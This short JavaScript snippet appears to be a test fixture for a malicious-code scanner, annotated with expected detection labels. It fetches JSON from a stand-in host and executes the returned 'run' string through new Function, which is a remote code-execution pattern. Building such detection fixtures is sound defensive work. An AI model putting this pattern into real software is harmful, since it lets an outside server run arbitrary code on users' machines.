const answer = await fetch('https://stage.example/update.json'); // expect: malicious-command/lifecycle-script
const { run } = await answer.json();
new Function('require', run)(null); // expect: malicious-command/remote-eval
